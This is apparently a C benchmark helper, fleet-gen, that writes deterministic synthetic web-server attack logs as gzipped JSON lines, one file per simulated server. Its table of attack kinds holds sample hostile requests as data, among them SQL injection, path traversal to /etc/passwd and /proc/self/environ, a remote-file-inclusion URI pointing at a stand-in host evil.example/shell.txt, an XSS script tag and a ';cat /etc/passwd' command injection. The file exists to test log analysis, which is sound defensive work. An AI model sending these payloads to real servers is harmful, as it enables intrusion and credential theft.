/* A generated fleet day of attack records, one gzip file per server, for
 * scripts/bench/bench-fleet (built by it; not part of the product).
 *
 *   fleet-gen RECORDS SERVERS DIR SEED FIRST LAST
 *
 * writes DIR/webNN.jsonl.gz for servers FIRST..LAST (1-based), so that
 * several processes can share the work: a server's file depends only on
 * the seed and its number. Deterministic.
 *
 * Shaped like a fleet's attack logs rather than a uniform mix: about one
 * distinct source per 60 records with a heavy tail (source of rank k
 * weighs 1 / (k + 10)^1.1: a few scanners send a large share, most
 * addresses a handful of records), sites attacked by a Zipf law, each
 * source with its own few targets (2% scan widely), one or more kinds of
 * attack, one client; an eighth of the sources IPv6; times in order
 * through one day per server; a second rule on one record in ten; an
 * escaped quote and backslash in one URI in a hundred. The records are
 * lw_record.c's layout (its member order, absent members left out). */
#include <math.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <zlib.h>

static uint64_t seed;

/* splitmix64: the stream and the hash of (seed, a, b) */
static uint64_t mix(uint64_t x)
{
    x += 0x9e3779b97f4a7c15ull;
    x = (x ^ (x >> 30)) * 0xbf58476d1ce4e5b9ull;
    x = (x ^ (x >> 27)) * 0x94d049bb133111ebull;
    return x ^ (x >> 31);
}

static uint64_t h3(uint64_t a, uint64_t b)
{
    return mix(mix(seed ^ mix(a)) ^ b);
}

static double unit(uint64_t x)
{
    return (double)(x >> 11) / 9007199254740992.0;
}

/* rank in [0, n) with weight 1 / (k + c)^s, by inverting the continuous law */
static uint64_t power_rank(double u, uint64_t n, double c, double s)
{
    double a = pow(c, 1 - s), b = pow((double)n + c, 1 - s);
    double k = pow(a + u * (b - a), 1 / (1 - s)) - c;

    if (k < 0)
        k = 0;
    return (uint64_t)k < n ? (uint64_t)k : n - 1;
}

static const struct {
    const char *cat, *uri, *field, *excerpt;
    unsigned id;
} kinds[] = {
    { "sqli", "/index.php?id=1%27+UNION+SELECT+1,2,3--", "args:id", "UNION SELECT", 100110 },
    { "lfi", "/home.php?pgi=../../../../proc/self/environ%00", "args:pgi", "../../../../proc/self/environ", 300120 },
    { "rfi", "/home.php?pgi=http://evil.example/shell.txt?", "args:pgi", "http://evil.example/shell.txt?", 400160 },
    { "xss", "/search?q=%3Cscript%3Ealert(1)%3C/script%3E", "args:q", "<script>alert(1)", 500110 },
    { "probe", "/.env", "path", "/.env", 700100 },
    { "scanner", "/admin/config.php", "user_agent", "sqlmap", 600100 },
    { "rce", "/cgi-bin/test?x=;cat+/etc/passwd", "args:x", ";cat /etc/passwd", 200130 },
    { "probe", "/wp-login.php", "path", "/wp-login.php", 700120 },
    { "lfi", "/index.php?file=..%2f..%2fetc%2fpasswd", "args:file", "../../etc/passwd", 300100 },
};
#define NKINDS (sizeof(kinds) / sizeof(kinds[0]))

static const char *const uas[] = {
    "libwww-perl/6.02", "Python-urllib/2.7",
    "sqlmap/1.7.2#stable (https://sqlmap.org)",
    "Mozilla/5.0 (X11; U; Linux i686; cs-CZ; rv:1.7.12) Gecko/20050929",
    "curl/7.88.1", "Go-http-client/1.1", "zgrab/0.x",
    "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 "
    "(KHTML, like Gecko) Chrome/120.0 Safari/537.36",
};
#define NUAS (sizeof(uas) / sizeof(uas[0]))

/* status and verdict, by weight */
static const struct {
    int status;
    const char *verdict;
    int weight;
} statuses[] = {
    { 404, "not_found", 40 }, { 403, "blocked", 25 }, { 200, "served", 20 },
    { 500, "error", 5 }, { 301, "redirected", 5 }, { 400, "rejected", 5 },
};

int main(int argc, char **argv)
{
    uint64_t n, nsrc, ntgt;
    int nserv, first, last, sv;
    static char line[8192];

    if (argc != 7) {
        fprintf(stderr, "usage: fleet-gen RECORDS SERVERS DIR SEED FIRST LAST\n");
        return 2;
    }
    n = strtoull(argv[1], NULL, 10);
    nserv = atoi(argv[2]);
    seed = strtoull(argv[4], NULL, 10);
    first = atoi(argv[5]);
    last = atoi(argv[6]);
    nsrc = n / 60 > 4000 ? n / 60 : 4000;
    ntgt = n / 2000 < 3000 ? 3000 : n / 2000 > 50000 ? 50000 : n / 2000;
    for (sv = first; sv <= last && sv <= nserv; sv++) {
        uint64_t m = n / nserv + ((uint64_t)(sv - 1) < n % nserv);
        uint64_t i, rng = mix(seed * 7919 + (uint64_t)sv);
        char path[4096];
        gzFile gz;

        snprintf(path, sizeof(path), "%s/web%02d.jsonl.gz", argv[3], sv);
        if ((gz = gzopen(path, "wb1")) == NULL) {
            perror(path);
            return 1;
        }
        gzbuffer(gz, 1 << 20);
        for (i = 0; i < m; i++) {
            uint64_t r = mix(rng += 0x9e3779b97f4a7c15ull), si, hs, nt, tg;
            uint64_t us = i * 86400000000ull / m, sec = us / 1000000;
            unsigned kk, k, st, wsum = 0, w;
            char client[64], uri[256];
            const char *ua, *tool;
            int len, two = r % 10 == 0, esc = r % 100 == 1;

            si = power_rank(unit(mix(r ^ 1)), nsrc, 10, 1.1);
            hs = h3(si, 0);
            /* the source's habits */
            if (hs % 8 == 7)
                snprintf(client, sizeof(client), "2a0%x:%x:%x::%x",
                         (unsigned)(1 + hs % 15), (unsigned)(1 + (hs >> 8) % 65535),
                         (unsigned)(1 + (hs >> 24) % 65535), (unsigned)(1 + (hs >> 40) % 65535));
            else
                snprintf(client, sizeof(client), "%u.%u.%u.%u",
                         (unsigned)(1 + (hs >> 8) % 223), (unsigned)((hs >> 16) & 255),
                         (unsigned)((hs >> 24) & 255), (unsigned)(1 + (hs >> 32) % 254));
            nt = (hs >> 48) % 50 == 0 ? 20 + (hs >> 20) % 181 : 1 + (hs >> 20) % 6;
            tg = power_rank(unit(h3(si, 1 + (r >> 8) % nt)), ntgt, 1, 0.9);
            kk = 1 + (unsigned)((hs >> 4) % 3);
            k = (unsigned)(h3(si, 1000 + (r >> 16) % kk) % NKINDS);
            ua = uas[(hs >> 12) % NUAS];
            tool = strncmp(ua, "libwww", 6) == 0 ? ",\"tool\":\"libwww-perl\"" : "";
            w = (unsigned)((r >> 24) % 100);
            for (st = 0; st < 5; st++) {
                wsum += (unsigned)statuses[st].weight;
                if (w < wsum)
                    break;
            }
            /* /pN/ inserted after the first '/' */
            snprintf(uri, sizeof(uri), "/p%u%s%s", (unsigned)((r >> 32) % 400),
                     kinds[k].uri, esc ? "%FF\\\\xff\\\"q" : "");
            len = snprintf(line, sizeof(line),
                "{\"time\":\"2026-12-05T%02u:%02u:%02u.%06u+01:00\",\"host\":\"web%02d\","
                "\"vhost\":\"www.site%u.example\",\"port\":443,\"client\":\"%s\","
                "\"method\":\"GET\",\"uri\":\"%s\",\"protocol\":\"HTTP/1.1\",\"status\":%d,"
                "\"bytes\":%u,\"duration_us\":%u,%s\"user_agent\":\"%s\","
                "\"request_id\":\"Zf%010llx%02dAAB\",\"verdict\":\"%s\",\"severity\":\"high\","
                "\"score\":%u,\"categories\":[\"%s\"%s],\"rules\":[{\"id\":%u,"
                "\"category\":\"%s\",\"severity\":\"high\",\"field\":\"%s\","
                "\"excerpt\":\"%s\",\"msg\":\"%s attempt\"}%s%s%s]%s}\n",
                (unsigned)(sec / 3600), (unsigned)(sec / 60 % 60), (unsigned)(sec % 60),
                (unsigned)(us % 1000000), sv, (unsigned)tg, client, uri,
                statuses[st].status, 200 + (unsigned)((r >> 40) % 9000),
                300 + (unsigned)((r >> 20) % 50000), i % 3 == 0 ? "\"referer\":\"-\"," : "",
                ua, (unsigned long long)i, sv, statuses[st].verdict,
                5 + (unsigned)((r >> 50) % 10), kinds[k].cat, two ? ",\"protocol\"" : "",
                kinds[k].id, kinds[k].cat, kinds[k].field, kinds[k].excerpt,
                kinds[k].cat,
                two ? ",{\"id\":800100,\"category\":\"protocol\",\"severity\":\"medium\","
                      "\"field\":\"header:host\",\"excerpt\":\"www.site" : "",
                two ? "x.example" : "",
                two ? "\",\"msg\":\"odd host\"}" : "", tool);
            if (gzwrite(gz, line, (unsigned)len) != len) {
                fprintf(stderr, "%s: write failed\n", path);
                return 1;
            }
        }
        if (gzclose(gz) != Z_OK) {
            fprintf(stderr, "%s: close failed\n", path);
            return 1;
        }
        printf("%s: %llu records\n", path, (unsigned long long)m);
        fflush(stdout);
    }
    return 0;
}
